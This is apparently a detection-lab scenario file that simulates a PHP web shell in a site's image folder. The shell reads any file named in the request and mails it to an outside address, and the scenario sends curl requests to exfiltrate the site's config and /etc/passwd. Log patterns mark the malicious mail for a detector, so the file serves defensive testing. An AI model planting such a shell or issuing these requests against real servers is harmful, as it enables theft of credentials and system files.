# A page of the web site that was never meant to send mail does so.
title="Web shell sends files with PHP mail()"
what="A PHP site runs as www-data. Its contact page mails the fixed address info@example.org, as always. An uploaded page in the image folder then reads the site's configuration and mails it with mail() to an outside recipient chosen by the request."
host=mx1.example.org user=www-data daemons="cron" store=maildir

setup() {
  mkdir -p /opt/site/images
  printf '<?php mail("info@example.org", "contact form", "Please call back."); echo "sent\\n";\n' > /opt/site/contact.php
  printf '<?php $b = chunk_split(base64_encode(file_get_contents($_GET["f"]))); mail($_GET["t"], "img", $b); echo strlen($b);\n' > /opt/site/images/thumb.php
  printf 'db_password = lab\napi_key = 000\n' > /opt/site/config.ini
  chown -R www-data: /opt/site
}
act() {
  (cd /opt/site && exec setpriv --reuid www-data --regid www-data --init-groups env -i PATH=/usr/bin:/bin php -S 0.0.0.0:8080 -t /opt/site >/dev/null 2>&1) & own_pids+=($!); daemon_is $!
  sleep 1
  small_talk 3
  for n in 1 2; do outside curl -s "http://$host_ip:8080/contact.php" >/dev/null; sleep 1; done
  outside curl -s "http://$host_ip:8080/images/thumb.php?f=/opt/site/config.ini&t=c4@example.net" >/dev/null
  outside curl -s "http://$host_ip:8080/images/thumb.php?f=/etc/passwd&t=c4@example.net" >/dev/null
  wait_log 'to=<c4@example.net>.*status=sent' 20
  small_talk 1
}
truth() {
  mail_step usual 'to=<clerk@example.org>, orig_to=<info@example.org>.*status=sent' 'what the site always sends'
  exec_step hand-over '(sendmail|sh -c /usr/sbin/sendmail)' 'PHP starts sendmail'
  mail_step sent 'to=<c4@example.net>.*status=sent' 'and this goes outside'
}
